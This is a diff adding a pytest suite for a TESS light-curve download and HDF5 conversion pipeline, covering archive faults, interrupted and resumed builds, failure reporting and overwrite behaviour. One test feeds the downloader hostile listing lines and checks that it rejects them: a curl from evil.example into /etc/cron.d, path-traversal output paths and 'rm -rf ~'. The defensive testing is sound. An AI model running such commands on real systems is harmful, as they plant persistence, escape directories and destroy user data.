@@ -1,0 +1,233 @@
+"""Real archives and real users: faults, interruptions, resumes, bad input and hostile listings."""
+
+from __future__ import annotations
+
+import csv
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import h5py
+import numpy as np
+import pytest
+from astropy.table import Table
+
+from build_parent_sample import TGLC_Downloader
+from conftest import REPO, assert_contract, run_env
+from tglc_builder import layout, pipeline
+from tglc_builder.archive import LocalArchive
+
+SCRIPT = str(REPO / "build_parent_sample.py")
+
+
+def _args(tmp_path: Path, url: str, *extra: str) -> list[str]:
+    return [sys.executable, SCRIPT, "-s", "23", "--tglc_data_path", str(tmp_path / "data"),
+            "--hdf5_output_path", str(tmp_path / "out"), "--fits_output_path", str(tmp_path / "fits"),
+            "--mast-url", url, *extra]
+
+
+def _run(tmp_path, url, *extra, timeout=600):
+    return subprocess.run(_args(tmp_path, url, *extra), env=run_env(), capture_output=True, text=True,
+                          timeout=timeout)
+
+
+def _catalog(tmp_path, tiny=False):
+    name = "s0023-catalog_tiny.hdf5" if tiny else "s0023-catalog.hdf5"
+    return Table.read(tmp_path / "data" / "s0023" / name, path="catalog")
+
+
+def _dataset(out: Path) -> dict[str, dict[str, np.ndarray]]:
+    """Every dataset of every HDF5 file, by relative path, for comparing two builds."""
+    result = {}
+    for file in sorted((out / "TGLC").glob("healpix=*/*.hdf5")):
+        with h5py.File(file, "r") as h5:
+            result[str(file.relative_to(out))] = {name: h5[name][()] for name in h5}
+    return result
+
+
+def _assert_same_data(a: Path, b: Path) -> None:
+    one, two = _dataset(a), _dataset(b)
+    assert one.keys() == two.keys()
+    for file in one:
+        assert one[file].keys() == two[file].keys()
+        for name in one[file]:
+            assert one[file][name].tobytes() == two[file][name].tobytes(), (file, name)
+
+
+def _debris(*roots: Path) -> list[Path]:
+    return [p for root in roots if root.exists() for p in root.rglob("*")
+            if ".part-" in p.name or ".tmp" in p.name]
+
+
+def test_faulty_archive_build_completes_exactly(tmp_path):
+    faults = {"429": 0.05, "500": 0.05, "truncate": 0.05, "reset": 0.05}
+    with LocalArchive(sector=23, n=250, seed=11, faults=faults) as archive:
+        downloader = TGLC_Downloader(23, tmp_path / "data", tmp_path / "out", tmp_path / "fits", n_processes=2,
+                                     mast_url=archive.url)
+        summary = downloader.download_sector()
+        requests_per_file = archive.fits_requests()
+    assert summary.failures == []
+    catalog = _catalog(tmp_path)
+    assert summary.downloaded == len(catalog)
+    assert_contract(tmp_path / "out", catalog, tmp_path / "fits")
+    retried = [path for path, count in requests_per_file.items() if count > 1]
+    assert len(retried) >= 0.1 * len(catalog)  # the faults really happened, and were retried
+    assert not _debris(tmp_path / "fits", tmp_path / "out")
+
+
+def _start_build(tmp_path, url, *extra):
+    return subprocess.Popen(_args(tmp_path, url, *extra), env=run_env(), stdout=subprocess.DEVNULL,
+                            stderr=subprocess.PIPE, text=True, start_new_session=True)
+
+
+def _wait_for(predicate, process, timeout=120):
+    deadline = time.monotonic() + timeout
+    while not predicate():
+        assert process.poll() is None, process.stderr.read()
+        assert time.monotonic() < deadline, "the build never reached the point to interrupt"
+        time.sleep(0.05)
+
+
+def _fits_files(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*.fits")} if root.exists() else set()
+
+
+@pytest.mark.parametrize("when", ["downloading", "converting"])
+def test_sigkill_then_rerun_finishes_identically(tmp_path, when):
+    with LocalArchive(sector=23, n=400, seed=5, latency=0.01) as archive:
+        reference = tmp_path / "reference"
+        assert _run(reference, archive.url, "-n", "2").returncode == 0
+        reference_requests = archive.request_count()
+
+        killed = tmp_path / "killed"
+        process = _start_build(killed, archive.url, "-n", "2")
+        if when == "downloading":
+            _wait_for(lambda: len(_fits_files(killed / "fits")) >= 50, process)
+        else:
+            _wait_for(lambda: any((killed / "out").rglob("*.hdf5*")) if (killed / "out").exists() else False,
+                      process)
+        os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+        complete = _fits_files(killed / "fits")
+        counts_at_kill = archive.fits_requests()
+
+        rerun = _run(killed, archive.url, "-n", "2")
+        assert rerun.returncode == 0, rerun.stderr
+        counts_after = archive.fits_requests()
+    assert archive.request_count() > reference_requests
+    # nothing complete was downloaded again
+    for path in complete:
+        assert counts_after.get(path, 0) == counts_at_kill.get(path, 0), path
+    _assert_same_data(reference / "out", killed / "out")
+    assert not _debris(killed / "fits", killed / "out")
+
+
+def test_ctrl_c_stops_promptly_without_debris(tmp_path):
+    with LocalArchive(sector=23, n=400, seed=5, latency=0.05) as archive:
+        process = _start_build(tmp_path, archive.url, "-n", "2")
+        _wait_for(lambda: len(_fits_files(tmp_path / "fits")) >= 20, process)
+        os.killpg(process.pid, signal.SIGINT)
+        started = time.monotonic()
+        _, stderr = process.communicate(timeout=60)
+        assert time.monotonic() - started < 15
+    assert process.returncode == 130, stderr
+    assert "rerun the same command" in stderr and "Traceback" not in stderr
+    assert not _debris(tmp_path / "fits", tmp_path / "out")
+
+
+def test_failures_are_reported_and_retried_on_rerun(tmp_path):
+    with LocalArchive(sector=23, n=200, seed=2) as archive:
+        # an object in the target list but not served: listed, it answers 404, a permanent failure
+        served = set(archive.sector.gaia_ids.tolist())
+        text = archive.sector.target_list().decode().splitlines()
+        header = [c.strip() for c in text[0].lstrip("#").split(",")]
+        gaia_column = header.index("GAIADR3_ID")
+        absent = next(int(line.split(",")[gaia_column]) for line in text[1:]
+                      if int(line.split(",")[gaia_column]) not in served)
+        missing_path = layout.lc_relpath(absent, 23, 1, 1)
+    with LocalArchive(sector=23, n=200, seed=2,
+                      extra_listing_lines=[f"curl -f --create-dirs --output '{missing_path}' https://x/y"]) as archive:
+        catalog_path = tmp_path / "fits"
+        # a corrupt file already sitting where a light curve belongs (whole FITS blocks, so it looks complete)
+        first = TGLC_Downloader(23, tmp_path / "data", tmp_path / "out", catalog_path, mast_url=archive.url)
+        catalog = first.create_sector_catalog(save_catalog=False)
+        corrupt = catalog_path / catalog["path"][0]
+        corrupt.parent.mkdir(parents=True)
+        corrupt.write_bytes(b"SIMPLE  =                    T" + b" " * (2880 - 30))
+
+        result = _run(tmp_path, archive.url, "-n", "2")
+        assert result.returncode == 1
+        assert "failures.csv" in result.stderr and "rerun" in result.stderr
+        with open(tmp_path / "data" / "s0023" / "failures.csv") as f:
+            rows = {row["path"]: row for row in csv.DictReader(f)}
+        assert set(rows) == {missing_path, catalog["path"][0]}
+        assert "404" in rows[missing_path]["reason"] and rows[missing_path]["stage"] == "download"
+        assert rows[catalog["path"][0]]["stage"] == "convert"
+        assert (catalog_path / "corrupt" / catalog["path"][0]).exists()  # moved aside
+        assert not corrupt.exists()
+
+        result = _run(tmp_path, archive.url, "-n", "2")  # the corrupt one is fetched again; the 404 stays
+        assert result.returncode == 1
+        with open(tmp_path / "data" / "s0023" / "failures.csv") as f:
+            assert [row["path"] for row in csv.DictReader(f)] == [missing_path]
+    full = _catalog(tmp_path)
+    assert_contract(tmp_path / "out", full[[p != missing_path for p in full["path"]]], catalog_path)
+
+
+def test_hostile_listing_lines_are_skipped(tmp_path):
+    hostile = ["curl -f --output '/etc/cron.d/evil' https://evil.example/x",
+               "curl -f --output '../../escape.fits' https://evil.example/x",
+               "curl -f --output 's0023/cam1-ccd1/0012/3456/7890/1234/../../../../../../../x.fits' http://x",
+               "curl -f --output 'ftp://evil.example/s0023/a.fits' x", "sh -c 'rm -rf ~'", "garbage \x07 line"]
+    with LocalArchive(sector=23, n=150, seed=4, extra_listing_lines=hostile) as archive:
+        result = _run(tmp_path, archive.url, "--tiny")
+        assert result.returncode == 0, result.stderr
+        assert "6 line(s)" in result.stderr
+    rejected = (tmp_path / "data" / "s0023" / "rejected_listing_lines.txt").read_text().splitlines()
+    assert len(rejected) == 6
+    assert not (tmp_path / "escape.fits").exists() and not (tmp_path.parent / "escape.fits").exists()
+    assert all(str(p.resolve()).startswith(str((tmp_path / "fits").resolve())) for p in (tmp_path / "fits").rglob("*"))
+
+
+def test_bad_target_list_and_empty_catalog(tmp_path, archive):
+    sector_dir = tmp_path / "data" / "s0023"
+    sector_dir.mkdir(parents=True)
+    (sector_dir / "s0023.csv").write_text("#GAIADR3_ID,RA,DEC\n1,2,3\n")  # reused as if downloaded: lacks TIC_ID
+    result = _run(tmp_path, archive.url, "--tiny")
+    assert result.returncode == 2
+    assert "s0023.csv" in result.stderr and "TIC_ID" in result.stderr and "Traceback" not in result.stderr
+
+    (sector_dir / "s0023.csv").write_text("#GAIADR3_ID,TIC_ID,RA,DEC\n1,2,3.0,4.0\n")  # nothing in common
+    result = _run(tmp_path, archive.url, "--tiny")
+    assert result.returncode == 2
+    assert "catalog is empty" in result.stderr and "Traceback" not in result.stderr
+
+
+def test_second_build_on_the_same_folders_is_refused(tmp_path, archive):
+    (tmp_path / "out").mkdir()
+    with pipeline.exclusive([tmp_path / "out"]):
+        result = _run(tmp_path, archive.url, "--tiny")
+    assert result.returncode == 2
+    assert "in use by another build" in result.stderr and str(os.getpid()) in result.stderr
+
+
+def test_clean_fits_and_overwrite(tmp_path, archive):
+    result = _run(tmp_path, archive.url, "--tiny", "--clean-fits")
+    assert result.returncode == 0, result.stderr
+    assert not _fits_files(tmp_path / "fits")
+    first = _dataset(tmp_path / "out")
+    stamps = {p: p.stat().st_mtime_ns for p in (tmp_path / "out").rglob("*.hdf5")}
+
+    result = _run(tmp_path, archive.url, "--tiny")  # complete pixels are kept as they are
+    assert result.returncode == 0, result.stderr
+    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "out").rglob("*.hdf5")} == stamps
+
+    result = _run(tmp_path, archive.url, "--tiny", "--overwrite")
+    assert result.returncode == 0, result.stderr
+    assert all(p.stat().st_mtime_ns != stamps[p] for p in stamps)
+    second = _dataset(tmp_path / "out")
+    assert first.keys() == second.keys()
+    assert all(first[f][n].tobytes() == second[f][n].tobytes() for f in first for n in first[f])
